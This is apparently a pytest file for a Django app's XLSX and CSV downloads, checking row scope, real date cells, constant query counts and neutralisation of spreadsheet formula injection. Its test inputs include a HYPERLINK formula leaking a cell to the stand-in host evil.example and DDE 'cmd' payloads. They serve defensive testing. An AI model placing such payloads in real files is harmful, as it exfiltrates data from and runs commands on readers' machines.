"""Downloads of what the pages show (core.spreadsheets): the plan, the review queue, the
authority dashboard, the portfolio and an inspection, as XLSX and CSV.

What must hold: a download has the page's rows and no more (the same selector on the same
object; who may download what is the permission matrix's, tests/test_permission_matrix.py);
text a spreadsheet would run as a formula is neutralised in both formats; dates are dates in the
XLSX; and each download runs the same queries whatever the data size.
"""

import csv
import datetime
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.models import Membership, Role
from core.months import previous_month
from improvement_plans.models import ActionStatus, Rag, UpdateStatus
from improvement_plans.selectors import this_month
from tests.factories import (
    ActionFactory,
    FindingFactory,
    ImprovementPlanFactory,
    InspectionFactory,
    JudgementFactory,
    LocalAuthorityFactory,
    ProgressUpdateFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

# What a hostile officer might type into a narrative, hoping a manager opens the download.
FORMULAS = {
    "what_was_done": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the evidence")',
    "impact": "+cmd|' /C calc'!A0",
    "evidence": "@SUM(1+1)*cmd|' /C calc'!A0",
    "next_steps": "-1+1",
}


def csv_sections(content: bytes) -> dict[str, list[list[str]]]:
    """A download's CSV as {table title: [headings, *rows]} (a one-table CSV: under "")."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    if not any(row == [] for row in rows):
        return {"": rows}
    sections, title = {}, None
    for row in rows:
        if row == []:
            title = None
        elif title is None:
            title = row[0]
            sections[title] = []
        else:
            sections[title].append(row)
    return sections


def xlsx(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def sheet_rows(workbook, title: str) -> list[dict]:
    rows = list(workbook[title].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture
def plan(authority, officer, manager):
    inspection = InspectionFactory(authority=authority)
    JudgementFactory(inspection=inspection, grade="requires_improvement")
    plan = ImprovementPlanFactory(inspection=inspection, notes="=1+1")
    area = FindingFactory(inspection=inspection, lead=officer, title="@Management oversight")
    ActionFactory(area_for_improvement=area, description="-Audit plans", owner="=Head of service")
    ActionFactory(
        area_for_improvement=area,
        status=ActionStatus.COMPLETE,
        completed_on=datetime.date(2024, 2, 1),
    )
    ProgressUpdateFactory(
        area_for_improvement=area,
        author=officer,
        month=previous_month(this_month()),
        rag=Rag.GREEN,
        status=UpdateStatus.RETURNED,
        reviewed_by=manager,
        reviewed_at=timezone.now(),
        review_comment='=HYPERLINK("https://evil.example")',
        **FORMULAS,
    )
    ProgressUpdateFactory(
        area_for_improvement=area,
        author=officer,
        month=previous_month(previous_month(this_month())),
        rag=Rag.AMBER,
        status=UpdateStatus.APPROVED,
    )
    return plan


def _get(client, user, name, **kwargs):
    client.force_login(user)
    response = client.get(reverse(name, kwargs=kwargs))
    assert response.status_code == 200, response.content[:300]
    return response


def test_the_plan_download_neutralises_formulas_in_narratives_in_both_formats(client, plan, viewer):
    csv_response = _get(client, viewer, "improvement_plans:plan_csv", plan_pk=plan.pk)
    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in csv_response["Content-Disposition"]
    sections = csv_sections(csv_response.content)
    headings, *updates = sections["Monthly updates"]
    returned = next(
        dict(zip(headings, row, strict=True)) for row in updates if row[3] != "Approved"
    )
    assert returned["What was done"] == "'" + FORMULAS["what_was_done"]
    assert returned["Impact seen"] == "'" + FORMULAS["impact"]
    assert returned["Evidence"] == "'" + FORMULAS["evidence"]
    assert returned["Next steps and risks"] == "'" + FORMULAS["next_steps"]
    assert returned["Review comment"].startswith("'=HYPERLINK")
    assert returned["State"] == "Returned to the officer"
    assert returned["Reported"] == "No"
    assert returned["Month"] == previous_month(this_month()).isoformat()
    headings, *areas = sections["Areas for improvement"]
    assert areas[0][0] == "'@Management oversight"
    headings, *actions = sections["Actions"]
    assert actions[0][1:3] == ["'-Audit plans", "'=Head of service"]
    # Nothing anywhere in the file starts a formula.
    for rows in sections.values():
        for row in rows:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row

    workbook = xlsx(_get(client, viewer, "improvement_plans:plan_xlsx", plan_pk=plan.pk).content)
    assert workbook.sheetnames == [
        "Improvement plan",
        "Areas for improvement",
        "Actions",
        "Monthly updates",
    ]
    formulas = [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    updates = sheet_rows(workbook, "Monthly updates")
    returned = next(row for row in updates if row["State"] != "Approved")
    for field, heading in [
        ("what_was_done", "What was done"),
        ("impact", "Impact seen"),
        ("evidence", "Evidence"),
        ("next_steps", "Next steps and risks"),
    ]:
        assert returned[heading] == "'" + FORMULAS[field]
    # Real dates: the month is a date cell, the submission and review times datetimes.
    month_cell = workbook["Monthly updates"]["B2"]
    assert month_cell.is_date and month_cell.number_format == "mmmm yyyy"
    assert {row["Month"].date() for row in updates} == {
        previous_month(this_month()),
        previous_month(previous_month(this_month())),
    }
    assert isinstance(returned["Reviewed"], datetime.datetime)
    actions = sheet_rows(workbook, "Actions")
    assert [row["Due"] for row in actions] == [datetime.datetime(2024, 3, 31)] * 2
    assert [row["Late"] for row in actions] == ["Yes", "No"]
    assert sheet_rows(workbook, "Improvement plan")[0]["Notes"] == "'=1+1"


def test_the_plan_download_has_the_pages_areas_states_and_rags(client, plan, viewer):
    workbook = xlsx(_get(client, viewer, "improvement_plans:plan_xlsx", plan_pk=plan.pk).content)
    [area] = sheet_rows(workbook, "Areas for improvement")
    # The rules: returned (last month's update is back with the officer) is the headline; the
    # latest reported RAG is the approved month's, amber.
    assert area["State"] == "Returned to the officer"
    assert area["Latest reported RAG"] == "Amber"
    assert area["Lead"] == plan.inspection.findings.get().lead.get_full_name()
    assert (area["Actions"], area["Actions complete"]) == (2, 1)
    page = _get(client, viewer, "improvement_plans:plan_detail", plan_pk=plan.pk).content.decode()
    assert reverse("improvement_plans:plan_xlsx", kwargs={"plan_pk": plan.pk}) in page
    assert "Download as spreadsheet (XLSX)" in page


def test_the_review_queue_download_lists_what_the_page_lists(
    client, plan, manager, viewer, officer
):
    area = plan.inspection.findings.get()
    waiting = ProgressUpdateFactory(
        area_for_improvement=area,
        author=officer,
        month=this_month(),
        status=UpdateStatus.SUBMITTED,
        submitted_at=timezone.now(),
        submitted_by=officer,
    )
    page = _get(client, manager, "improvement_plans:review_queue").content.decode()
    assert "Download as spreadsheet (XLSX)" in page
    sections = csv_sections(_get(client, manager, "improvement_plans:review_queue_csv").content)
    _headings, *rows = sections["Updates waiting for review"]
    assert [row[0] for row in rows] == ["'@Management oversight"]
    assert rows[0][2] == waiting.month.isoformat()
    _headings, *rows = sections["Returned to the officer"]
    assert len(rows) == 1 and rows[0][-1].startswith("'=HYPERLINK")
    # A viewer reviews nothing: the page lists nothing, and nor does the download.
    sections = csv_sections(_get(client, viewer, "improvement_plans:review_queue_csv").content)
    assert sections["Updates waiting for review"][1:] == []
    assert sections["Returned to the officer"][1:] == []


def test_the_inspection_download_has_its_judgements_and_findings(client, plan, viewer):
    inspection = plan.inspection
    FindingFactory(inspection=inspection, kind="strength", title="Strong leadership", text="+good")
    workbook = xlsx(
        _get(
            client, viewer, "improvement_plans:inspection_xlsx", inspection_pk=inspection.pk
        ).content
    )
    [about] = sheet_rows(workbook, "Inspection")
    assert about["Started"] == datetime.datetime(2023, 3, 13)
    assert about["Lead inspector"] == "Anna Gravelle"
    [judgement] = sheet_rows(workbook, "Judgements")
    assert judgement["Grade"] == "Requires improvement to be good"
    findings = sheet_rows(workbook, "Findings")
    assert [(f["Kind"], f["Number"], f["Title"]) for f in findings] == [
        ("Area for improvement", 1, "'@Management oversight"),
        ("Strength", 1, "Strong leadership"),
    ]
    assert findings[1]["What the report says"] == "'+good"


def test_the_authority_dashboard_download_has_its_tables_today_or_as_at_a_day(
    client, plan, authority, viewer
):
    url = reverse("dashboards:authority_xlsx", kwargs={"authority_pk": authority.pk})
    page = _get(client, viewer, "dashboards:authority", authority_pk=authority.pk).content.decode()
    assert url in page
    workbook = xlsx(client.get(url).content)
    assert workbook.sheetnames == [
        "Latest judgements",
        "Areas for improvement",
        "Updates overdue",
        "Updates returned to the officer",
        "Updates waiting for approval",
        "Actions overdue or due soon",
    ]
    [area] = sheet_rows(workbook, "Areas for improvement")
    assert (area["Area for improvement"], area["State"]) == (
        "'@Management oversight",
        "Returned to the officer",
    )
    [returned] = sheet_rows(workbook, "Updates returned to the officer")
    assert returned["Month"].date() == previous_month(this_month())
    # As at a day: the page's ?as_at=, and the download link carries it.
    day = (timezone.localdate() - datetime.timedelta(days=400)).isoformat()
    page = client.get(
        reverse("dashboards:authority", kwargs={"authority_pk": authority.pk}), {"as_at": day}
    )
    assert f"{url}?as_at={day}" in page.content.decode()
    assert client.get(url, {"as_at": day}).status_code == 200
    refused = client.get(url, {"as_at": "31/02/2025"})
    assert refused.status_code == 400
    assert "is not a date" in refused.content.decode()


def test_the_portfolio_download_has_the_pages_rows_with_its_filters_and_sort(client, db):
    user = UserFactory(username="regional")
    for name, region, grade in [
        ("Bristol", "South West", "good"),
        ("Leeds", "Yorkshire and the Humber", "inadequate"),
        ("York", "Yorkshire and the Humber", "good"),
    ]:
        authority = LocalAuthorityFactory(name=name, region=region)
        Membership.objects.create(user=user, authority=authority, role=Role.VIEWER)
        JudgementFactory(inspection=InspectionFactory(authority=authority), grade=grade)
    LocalAuthorityFactory(name="Hiddenshire", region="Yorkshire and the Humber")
    client.force_login(user)
    query = {"region": "Yorkshire and the Humber", "sort": "-name"}
    page = client.get(reverse("dashboards:portfolio"), query).content.decode()
    assert "authorities.xlsx?region=Yorkshire+and+the+Humber&amp;sort=-name" in page
    workbook = xlsx(client.get(reverse("dashboards:portfolio_xlsx"), query).content)
    rows = sheet_rows(workbook, "Authorities")
    assert [row["Authority"] for row in rows] == ["York", "Leeds"]
    assert rows[1]["Headline grade"] == "Inadequate"
    assert rows[1]["Latest inspection"] == datetime.datetime(2023, 3, 13)
    assert rows[1]["Red"] == 0
    sections = csv_sections(client.get(reverse("dashboards:portfolio_csv")).content)
    assert [row[0] for row in sections[""][1:]] == ["Bristol", "Leeds", "York"]


# ----- The same queries whatever the data size -------------------------------------------------


def _grow(plan, officer, count: int) -> None:
    month = this_month()
    for _ in range(count):
        area = FindingFactory(inspection=plan.inspection, lead=officer)
        ActionFactory(area_for_improvement=area, due_date=timezone.localdate())
        ProgressUpdateFactory(
            area_for_improvement=area,
            author=officer,
            month=month,
            status=UpdateStatus.SUBMITTED,
            submitted_at=timezone.now(),
        )
        ProgressUpdateFactory(
            area_for_improvement=area,
            author=officer,
            month=previous_month(month),
            status=UpdateStatus.RETURNED,
        )


DOWNLOADS = [
    ("improvement_plans:plan_xlsx", lambda plan: {"plan_pk": plan.pk}),
    ("improvement_plans:inspection_csv", lambda plan: {"inspection_pk": plan.inspection_id}),
    ("improvement_plans:review_queue_xlsx", lambda plan: {}),
    ("dashboards:authority_csv", lambda plan: {"authority_pk": plan.inspection.authority_id}),
    ("dashboards:portfolio_xlsx", lambda plan: {}),
]


@pytest.mark.parametrize(("name", "kwargs"), DOWNLOADS, ids=[d[0] for d in DOWNLOADS])
def test_a_download_runs_the_same_queries_whatever_the_data_size(
    client, plan, officer, manager, name, kwargs
):
    url = reverse(name, kwargs=kwargs(plan))
    client.force_login(manager)
    counts = []
    for more in (0, 30):
        _grow(plan, officer, more)
        client.get(url)  # the dashboards' caches are filled once, as for the page
        with CaptureQueriesContext(connection) as captured:
            response = client.get(url)
        assert response.status_code == 200
        counts.append(len(captured.captured_queries))
    assert counts[0] == counts[1], f"{name}: {counts}"
